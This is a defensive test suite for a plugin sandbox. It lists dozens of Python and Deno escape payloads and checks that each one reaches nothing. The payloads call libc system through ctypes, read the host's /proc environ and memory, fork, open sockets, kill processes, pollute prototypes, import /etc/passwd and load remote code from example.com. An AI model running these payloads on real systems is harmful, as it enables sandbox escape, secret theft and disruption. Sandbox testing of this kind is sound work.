"""Attacks from within each language: every trick that reaches for something outside of the guest.

An attack gets hold of what its language gives (subclasses, frames, constructors, prototypes), which
is no secret, and then of something that is the hub's, another plugin's or the machine's: what it
answers is what it got. Nothing may be got, and no canary may notice.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, closing
from pathlib import Path
from textwrap import indent
from typing import Any

import pytest

from plexihub.kernel.context import CallContext
from plexihub.kernel.ports import PluginInstance
from plexihub_sdk.errors import (
    LimitExceededError,
    PermissionDenied,
    PluginCrashedError,
    PluginRaisedError,
    PluginTimeoutError,
)
from tests.support.confined import SECRET, Targets
from tests.zoo.sandbox import Sandbox, make_sandbox, write

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.sandbox,
    pytest.mark.checklist("A-05", "A-18", "A-19", "A-20"),
]

#: `posix` is `os` as the plugin finds it; `T` has the targets. What is returned was got.
DIG = 'posix = contextlib.__builtins__["__import__"]("posix")'
PYTHON: dict[str, str] = {
    "subclasses to an opened file": """
found = [().__class__.__base__]
for each in found:
    if each is not type:
        found += [one for one in each.__subclasses__() if one not in found]
    if each.__name__ == "FileIO":
        return each(T["FILE"]).read().decode()
""",
    "subclasses to the real open": """
for each in object.__subclasses__():
    made = getattr(getattr(each, "__init__", None), "__globals__", {})
    real = made.get("__builtins__")
    real = real if isinstance(real, dict) or real is None else vars(real)
    if real and "open" in real:
        try:
            return real["open"](T["FILE"]).read()
        except (ImportError, OSError, PermissionError):
            pass
""",
    "io.open_code": "return io.open_code(T['FILE']).read().decode()",
    "io.FileIO for writing": "return io.FileIO(T['FILE'], 'w').write(b'owned')",
    "os behind logging": "return logging.os.listdir(T['FOLDER'])",
    "os behind inspect": "return inspect.os.read(inspect.os.open(T['FILE'], 0), 99).decode()",
    "open behind codecs": "return codecs.open(T['FILE']).read()",
    "builtins behind codecs": "return codecs.builtins.open(T['FILE']).read()",
    "open behind tokenize": "return tokenize.open(T['FILE']).read()",
    "linecache": "return ''.join(traceback.linecache.getlines(T['FILE'])) or None",
    "importlib behind inspect": "return inspect.importlib.import_module('socket')",
    "machinery behind inspect": """
loader = inspect.importlib.machinery.SourceFileLoader("owned", T["FILE"])
return loader.get_data(T["FILE"]).decode()
""",
    "the loader of a module": """
return json.__loader__.get_data(T["FILE"]).decode()
""",
    "the spec of a frozen module": """
return abc.__spec__.loader.load_module("posix").listdir("/")[0] and abc.os.listdir("/etc")
""",
    "every object of the collector": """
gc = contextlib.__builtins__["__import__"]("gc")
want = T["SECRET"][::-1]
texts = [str(one) for each in gc.get_objects() if type(each) is dict for one in each.values()]
return [text for text in texts if want in text] or None
""",
    "the hub's words in its own memory": """
gc = contextlib.__builtins__["__import__"]("gc")
names = [type(each).__module__ for each in gc.get_objects()]
return [name for name in names if name.startswith(("plexihub.services", "sqlalchemy"))] or None
""",
    "the frames above": """
import sys
frame = sys._getframe()
while frame:
    if T["SECRET"][::-1] in str(frame.f_globals):
        return frame.f_code.co_filename
    frame = frame.f_back
""",
    "ctypes in sys.modules": """
modules = contextlib.sys.modules
return modules["ctypes"].CDLL(None).system(b"true")
""",
    "ctypes by its own finder": """
made = contextlib.__builtins__["__import__"]("_ctypes")
system = made.dlsym(made.dlopen("libc.so.6", 2), "system")
return "ran" if made.call_function(system, (b"true",)) == 0 else None
""",
    "a built-in module by force": """
imp = contextlib.__builtins__["__import__"]("_imp")
spec = type(abc.__spec__)("_socket", None)
return imp.create_dynamic(type(abc.__spec__)("x", None, origin=T["FILE"]))
""",
    "its own memory by /proc": """
return posix.read(posix.open("/proc/self/mem", 2), 1)
""",
    "the memory of the hub by /proc": """
return posix.open("/proc/%d/mem" % T["HUB"], 2)
""",
    "the environment of the hub by /proc": """
return posix.read(posix.open("/proc/%d/environ" % T["HUB"], 0), 99)
""",
    "its own environment": """
return {k: v for k, v in posix.environ.items() if k not in (b"LC_CTYPE", b"PYTHONUTF8")} or None
""",
    "a shell": "return posix.system('true') == 0 or None",
    "a program": "posix.posix_spawn('/bin/true', ['true'], {})\nreturn 'spawned'",
    "a fork": "pid = posix.fork()\nif pid == 0:\n    posix._exit(0)\nreturn pid",
    "a socket": """
import_ = contextlib.__builtins__["__import__"]
s = import_("_socket").socket(2, 1)
s.connect(("127.0.0.1", T["PORT"]))
return "connected"
""",
    "an abstract socket": """
s = contextlib.__builtins__["__import__"]("_socket").socket(1, 1)
s.connect("\\0" + T["ABSTRACT"])
return "connected"
""",
    "killing the hub": "posix.kill(T['HUB'], 10)\nreturn 'sent'",
    "killing its group": "posix.killpg(0, 10)\nreturn 'sent'",
    "killing everybody": "posix.kill(-1, 10)\nreturn 'sent'",
    "writing the canary": "return posix.write(posix.open(T['FILE'], 2), b'owned')",
    "removing the canary": "posix.unlink(T['FILE'])\nreturn 'removed'",
    "a new file at the root": "return posix.open('/owned', 0o102, 0o666)",
    "a link to the canary": "posix.symlink(T['FILE'], '/link')\nreturn 'linked'",
    "leaving its root": "posix.chdir('..')\nposix.chroot('.')\nreturn 'left'",
    "other descriptors": """
found = []
for number in range(3, 256):
    try:
        found.append((number, posix.fstat(number).st_mode))
    except OSError:
        pass
return [one for one in found if (one[1] & 0o170000) == 0o100000] or None
""",
    "pickle behind copyreg": """
pickle = contextlib.__builtins__["__import__"]("_pickle")
return pickle.loads(b"cposix\\nlistdir\\n(S'/etc'\\ntR.")
""",
    "marshal": """
marshal = contextlib.__builtins__["__import__"]("marshal")
code = marshal.loads(marshal.dumps(compile("posix.listdir('/etc')", "m", "eval")))
return eval(code, {"posix": posix})
""",
    "a tracer of the guest's own frames": """
seen = []
def spy(frame, event, arg):
    if T["SECRET"][::-1] in str(frame.f_locals):
        seen.append(event)
contextlib.sys.settrace(spy)
plugin.id
contextlib.sys.settrace(None)
return seen or None
""",
    "a handler for every signal": """
signal = contextlib.__builtins__["__import__"]("_signal")
for number in (10, 12, 15):
    signal.signal(number, lambda *_: None)
return posix.kill(T["HUB"], 10) or "sent"
""",
    "real time": "posix.sched_setscheduler(0, 1, posix.sched_param(1))\nreturn 'set'",
    "more of every limit": """
resource = contextlib.__builtins__["__import__"]("resource")
resource.setrlimit(resource.RLIMIT_DATA, (-1, -1))
return "set"
""",
    "another plugin's identity": """
plugin.id = "good"
return None if plugin.id != "good" else (T["ASK"] and None)
""",
}

#: What ends the guest at worst: the process is gone, and no more.
PYTHON_CRASHES: dict[str, str] = {
    "bytecode that lies": """
def f(): pass
code = f.__code__.replace(co_code=b"d\\xff" * 200, co_consts=(), co_stacksize=1)
f.__code__ = code
return f()
""",
    "a stack without an end": """
contextlib.sys.setrecursionlimit(2**31 - 1)
def f(n): return f(n + 1) + 1
return f(0)
""",
    "a stack of C": """
contextlib.sys.setrecursionlimit(2**31 - 1)
made = []
for _ in range(10**6):
    made = [made]
return str(made)[:0]
""",
    "marshalled nonsense": """
marshal = contextlib.__builtins__["__import__"]("marshal")
code = marshal.dumps(compile("1", "m", "eval"))
for at in range(len(code)):
    try:
        eval(marshal.loads(code[:at] + b"\\xff" + code[at + 1:]))
    except Exception:
        pass
raise ValueError("all of them were refused")
""",
    "a wrong address": """
faulthandler = contextlib.__builtins__["__import__"]("faulthandler")
faulthandler._sigsegv()
""",
    "an abort": "posix.abort()",
    "a signal to itself": "posix.kill(posix.getpid(), 9)\nraise ValueError('nothing happened')",
    "closing the pipe": "posix.close(0)\nwhile True: pass",
}

SCOPE = "globalThis as any"
DENO: dict[str, str] = {
    "Function": "return new Function('return Deno.readTextFileSync')()(T.FILE)",
    "the constructor of a function": "return (() => 0).constructor('return Deno')()",
    "the constructor of an async function": (
        "return (await (async () => 0).constructor('return Deno')())"
    ),
    "the constructor of a generator": (
        "return (function* () {}).constructor('yield Deno')().next().value"
    ),
    "the constructor of a built-in": "return ([] as any).at.constructor('return Deno')()",
    "indirect eval": "return (0, eval)('Deno')",
    "this of a sloppy function": "return new Function('return this.Deno')() ?? null",
    "the prototype of the global": "return Object.getPrototypeOf(globalThis).Deno ?? null",
    "a symbol of the global": """
const found = Object.getOwnPropertySymbols(globalThis).map((one) => (globalThis as any)[one]);
return found.find((one) => one?.internal || one?.core || one?.ops) ?? null;
""",
    "__proto__ of the API": """
(plugin.api as any).__proto__.emit = () => "owned";
return ({} as any).emit ?? null;
""",
    "pollution by a payload": """
Object.assign(Object.prototype, { permissions: ["admin:users"], user: "ada", granted: true });
await plugin.api.emit("polluted", {}).catch(() => 0);
for (const key of ["permissions", "user", "granted"]) delete (Object.prototype as any)[key];
return null;
""",
    "the id of another plugin": """
try { (plugin as any).id = "good"; } catch { /* it is fixed */ }
return plugin.id === "good" ? "good" : null;
""",
    "WebAssembly with the hub's imports": """
const bytes = new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,17,1,4,119,97,115,105,8,112,114,
  111,99,95,101,120,105,0,0]);
return await WebAssembly.instantiate(bytes, { wasi: { proc_exi: (globalThis as any).Deno.exit } });
""",
    "WebAssembly beyond its memory": """
const memory = new WebAssembly.Memory({ initial: 1, maximum: 1 });
memory.grow(1);
return "grown";
""",
    "SharedArrayBuffer with somebody": """
const shared = new SharedArrayBuffer(8);
new (globalThis as any).BroadcastChannel("hub").postMessage(shared);
return "sent";
""",
    "a worker": "return new (globalThis as any).Worker('data:text/javascript,0')",
    "waiting for shared memory": (
        "return Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0, 10) && null"
    ),
    "import of a file": "return await import('file://' + T.FILE)",
    "import of the canary as text": (
        "return (await import('file://' + T.FILE, { with: { type: 'text' } } as any)).default"
    ),
    "import of the system's file": "return await import('file:///etc/passwd')",
    "import of a path upward": "return await import('../../../../etc/passwd')",
    "import from memory": """
const url = URL.createObjectURL(new Blob(["export default globalThis.Deno"]));
return (await import(url)).default ?? null;
""",
    "import from data, then a file": (
        "return await import(`data:text/javascript,export * from 'file://${T.FILE}'`)"
    ),
    "import from data, then node": "return await import('data:text/javascript,import \"node:fs\"')",
    "import of node:fs": "return await import('node:fs')",
    "import of node:child_process": "return await import('node:child_process')",
    "import of npm": "return await import('npm:left-pad')",
    "import of jsr": "return await import('jsr:@std/fs')",
    "import over https": "return await import('https://example.com/x.js')",
    "import over http from loopback": "return await import(`http://127.0.0.1:${T.PORT}/x.js`)",
    "import.meta.resolve of a file": "return await import(import.meta.resolve('/etc/passwd'))",
    "fetch": "return await (globalThis as any).fetch(`http://127.0.0.1:${T.PORT}/`)",
    "fetch of a file": "return await (globalThis as any).fetch('file://' + T.FILE)",
    "WebSocket": "return new (globalThis as any).WebSocket(`ws://127.0.0.1:${T.PORT}/`)",
    "EventSource": "return new (globalThis as any).EventSource(`http://127.0.0.1:${T.PORT}/`)",
    "XMLHttpRequest": "return new (globalThis as any).XMLHttpRequest()",
    "process.binding": "return (globalThis as any).process.binding('fs')",
    "require": "return (globalThis as any).require('fs')",
    "the stack of an error": """
(Error as any).prepareStackTrace = (_: unknown, sites: any[]) => sites;
const sites = (new Error().stack ?? []) as any[];
const found = [...sites].map((one) => one.getFunction?.() ?? null).find((one) => one);
delete (Error as any).prepareStackTrace;
return found ? found("return Deno") : null;
""",
    "a thenable that is asked by the hub": """
let taken: unknown = null;
const asked = { get then() { taken = (globalThis as any).Deno ?? null; return undefined; } };
await asked;
return taken;
""",
    "a proxy as parameters": """
let seen: unknown = null;
const spy = new Proxy({}, { ownKeys(target) { seen = (globalThis as any).Deno ?? null;
  return Reflect.ownKeys(target); } });
await plugin.api.emit("spied", spy).catch(() => 0);
return seen;
""",
    "a finalizer": """
let seen: unknown = null;
new FinalizationRegistry(() => { seen = (globalThis as any).Deno; }).register({}, 0);
return seen;
""",
    "local storage": "return (globalThis as any).localStorage.setItem('x', '1') ?? 'stored'",
    "the cache": "return await (globalThis as any).caches.open('x')",
    "the host's name": "return (globalThis as any).navigator?.userAgent ?? null",
    "a dialog on the terminal": "return (globalThis as any).prompt('password?')",
    "leaving the process": "(globalThis as any).Deno.exit(0); return 'left'",
}

PYTHON_PLUGIN = """
import abc
import codecs
import contextlib
import copyreg
import inspect
import io
import json
import logging
import tokenize
import traceback

{dig}
ATTACKS = {{}}


def attack(name):
    return lambda work: ATTACKS.setdefault(name, work)


{attacks}


def on_dashboard_load(context, plugin):
    got = ATTACKS[context["attack"]](context["targets"], plugin)
    return {{"got": None if got is None else str(got)[:300]}}


def on_data_fetch():
    return {{"alive": True}}
"""
DENO_PLUGIN = """
// deno-lint-ignore-file
const attacks: Record<string, (T: any, plugin: any) => Promise<unknown>> = {{
{attacks}
}};
export default {{
  id: "inside", version: "1.0.0", permissions: ["events:emit"], hooks: {{
    async onDashboardLoad({{ attack, targets }}: any, plugin: any) {{
      const got = await attacks[attack](targets, plugin);
      return {{ got: got === null || got === undefined ? null : String(got).slice(0, 300) }};
    }},
    onDataFetch: () => ({{ alive: true }}),
  }},
}};
"""


def python_plugin() -> str:
    """Write all attacks of Python as one plugin."""
    made = [
        f"@attack({name!r})\ndef _(T, plugin):\n{indent(code.strip(), '    ')}\n"
        for name, code in {**PYTHON, **PYTHON_CRASHES}.items()
    ]
    return PYTHON_PLUGIN.format(dig=DIG, attacks="\n\n".join(made))


def deno_plugin() -> str:
    """Write all attacks of JavaScript as one plugin."""
    made = [f"  {name!r}: async (T, plugin) => {{ {code} }}," for name, code in DENO.items()]
    return DENO_PLUGIN.format(attacks="\n".join(made))


class Guests:
    """The attackers, started again after an attack that ends them."""

    def __init__(self, folder: Path) -> None:
        self.sandboxes: dict[str, Sandbox] = {}
        self.paths: dict[str, Path] = {}
        for language, name, code in (
            ("python", "inside.py", python_plugin()),
            ("deno", "inside.ts", deno_plugin()),
        ):
            (folder / language).mkdir()
            self.sandboxes[language] = make_sandbox(folder / language, language, call_seconds=8.0)
            self.sandboxes[language].door.error = PermissionDenied("all", "Nothing was granted.")
            self.paths[language] = write(folder / language / "code", name, code)
        self._running: dict[str, tuple[Any, PluginInstance]] = {}

    async def of(self, language: str) -> PluginInstance:
        """Answer the attacker of a language."""
        if language in self._running and self._running[language][1].ended.done():
            await self.close(language)
        if language not in self._running:
            context = self.sandboxes[language].running(self.paths[language])
            self._running[language] = context, await context.__aenter__()
        return self._running[language][1]

    async def close(self, language: str) -> None:
        """Stop one."""
        if language in self._running:
            context, _ = self._running.pop(language)
            await context.__aexit__(None, None, None)


@pytest.fixture(scope="module")
async def guests(
    tmp_path_factory: pytest.TempPathFactory, anyio_backend: object
) -> AsyncIterator[Guests]:
    """Give one attacker a language for all attacks."""
    del anyio_backend
    async with _open(tmp_path_factory.mktemp("inside")) as guests:
        yield guests


@asynccontextmanager
async def _open(folder: Path) -> AsyncIterator[Guests]:
    guests = Guests(folder)
    for language in guests.sandboxes:  # before the first test, which would seem to leave them
        await guests.of(language)
    try:
        yield guests
    finally:
        for language in guests.sandboxes:
            await guests.close(language)


async def attempt(guests: Guests, language: str, name: str, canaries: Targets) -> Any:
    """Let the attacker try; answer what it got, and see that the other one is unharmed."""
    targets = {
        **canaries.names,
        "FOLDER": str(canaries.file.parent),
        "SECRET": SECRET[::-1],
        "ASK": True,
    }
    guests.sandboxes[language].door.asked.clear()
    guest = await guests.of(language)
    try:
        answer: Any = await guest.call_hook(
            "onDashboardLoad", {"attack": name, "targets": targets}, CallContext()
        )
        return answer["got"]
    except (LimitExceededError, PluginRaisedError, PluginCrashedError, PluginTimeoutError):
        return None
    finally:
        for asked, method, _ in guests.sandboxes[language].door.asked:
            assert asked.actor.id == "inside"
            assert method in {"events.emit", "network.fetch"}
            assert asked.on_behalf_of is None
        other = await guests.of("deno" if language == "python" else "python")
        assert await other.call_hook("onDataFetch", {}, CallContext()) == {"alive": True}


#: What harms nobody where nothing holds it.
TRIED_OUTSIDE = (
    *("subclasses to an opened file", "subclasses to the real open", "io.open_code"),
    *("io.FileIO for writing", "os behind logging", "os behind inspect", "open behind codecs"),
    *("builtins behind codecs", "open behind tokenize", "linecache", "machinery behind inspect"),
    *("the loader of a module", "importlib behind inspect", "ctypes by its own finder"),
    *("every object of the collector", "the frames above", "its own environment", "a shell"),
    *("the memory of the hub by /proc", "a program", "a fork", "a socket", "an abstract socket"),
    *("writing the canary", "removing the canary", "pickle behind copyreg", "marshal"),
)
OUTSIDE = """
import json, sys
names, targets = json.loads(sys.argv[1])
got = {}
for name in names:
    try:
        got[name] = ATTACKS[name](targets, None)
    except Exception as error:
        got[name] = None
        print(name, repr(error), file=sys.stderr)
print(json.dumps([name for name in names if got[name] is None]), flush=True)
"""


def test_same_attacks_succeed_where_nothing_holds_them(tmp_path: Path) -> None:
    """In a plain interpreter they get what they are after: they are no straw men."""
    with closing(Targets(tmp_path)) as targets:
        names = {**targets.names, "FOLDER": str(tmp_path), "SECRET": SECRET[::-1]}
        code = python_plugin() + f"\nKEPT = {SECRET!r}\n" + OUTSIDE
        tried = [name for name in TRIED_OUTSIDE if name != "removing the canary"]
        order = json.dumps([[*tried, "removing the canary"], names])
        done = subprocess.run(
            [sys.executable, "-c", code, order],
            capture_output=True,
            text=True,
            timeout=30,
            check=True,
        )
    assert json.loads(done.stdout.splitlines()[-1]) == [], done.stderr


@pytest.mark.parametrize("name", PYTHON)
async def test_python_reaches_nothing(guests: Guests, canaries: Targets, name: str) -> None:
    """Whatever Python gives, nothing outside of the process is read, written or told."""
    assert await attempt(guests, "python", name, canaries) is None


@pytest.mark.parametrize("name", PYTHON_CRASHES)
async def test_python_hurts_itself_alone(guests: Guests, canaries: Targets, name: str) -> None:
    """A process that breaks its own interpreter is an end like any other."""
    assert await attempt(guests, "python", name, canaries) is None


@pytest.mark.parametrize("name", DENO)
async def test_javascript_reaches_nothing(guests: Guests, canaries: Targets, name: str) -> None:
    """Whatever JavaScript gives, nothing outside of the process is read, written or told."""
    assert await attempt(guests, "deno", name, canaries) is None
